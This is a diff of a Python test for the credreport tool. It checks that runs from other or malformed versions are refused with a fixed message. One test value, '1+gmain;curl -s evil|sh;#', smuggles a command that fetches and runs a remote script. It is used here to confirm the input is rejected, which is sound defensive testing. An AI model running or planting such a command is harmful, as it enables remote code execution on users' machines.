@@ -21,6 +21,7 @@ from analyzer.decisions.record import closed
 from analyzer.errors import FAILED
 from analyzer.files import sha256
 from analyzer.rules import RULES
+from analyzer.terms import VERSION
 from tests.support.builders import ROOT_FOLDER, run
 from tests.support.review import fill_in
 
@@ -855,14 +856,19 @@ def test_an_account_that_an_older_run_had_is_named_if_that_run_is_gone(tmp_path:
 
 def test_a_run_of_another_version_and_a_folder_without_one_are_refused(folder: Path) -> None:
     run_folder = folder / "runs" / MARCH
-    for version, told in (
-        ("0.0.9", "pipx install --force credreport==0.0.9"),
-        ("0.1.0.dev0+gabc123456.d20260301", "git checkout abc123456 && pipx install --force ."),
+    for version, named in (
+        ("0.0.9", "0.0.9"),
+        ("0.1.0.dev0+gabc123456.d20260301", "0.1.0.dev0+gabc123456.d20260301"),
+        ("1+gmain;curl -s evil|sh;#", "an unknown version"),
+        ("1.0\n2.0", "an unknown version"),
+        ("", "an unknown version"),
     ):
         tool = {"name": "credreport", "version": version}
         changed_json("manifest.json", methodcaller("update", tool=tool))(run_folder)
         code, text = verified(run_folder)
-        assert (code, told in text) == (3, True)
+        message = f"{named} of credreport wrote it, and this is {VERSION}"
+        hint = "Verify it with the version that wrote it."
+        assert (code, text) == (3, f"credreport: {run_folder}: {message}\n    {hint}\n"), text
     (run_folder / "manifest.json").unlink()
     code, text = verified(run_folder)
     assert (code, "no run of export" in text) == (3, True)
